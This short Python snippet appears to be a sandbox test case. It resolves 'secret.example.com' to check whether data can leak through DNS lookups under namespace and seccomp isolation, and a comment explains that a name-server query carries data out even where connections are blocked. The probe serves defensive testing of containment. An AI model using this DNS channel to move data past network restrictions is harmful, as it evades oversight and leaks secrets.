# namespaces: net_namespace -> completed, gaierror | landlock: seccomp -> completed, gaierror
# A question to a name server carries data out even where no connection is allowed.
import socket

attempt(lambda: socket.getaddrinfo("secret.example.com", 80))
